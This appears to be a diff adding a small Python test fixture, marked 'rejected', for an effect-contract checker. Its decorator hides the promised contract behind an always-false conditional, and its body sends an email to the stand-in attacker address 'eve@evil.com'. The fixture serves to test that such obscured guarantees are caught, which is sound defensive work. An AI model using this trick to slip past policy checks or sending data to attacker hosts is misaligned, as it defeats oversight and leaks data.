@@ -1,0 +1,9 @@
+# rejected: which contract is promised must be plain
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent() if False else c.no_guarantees())
+def main() -> None:
+    send_email("eve@evil.com", "x")
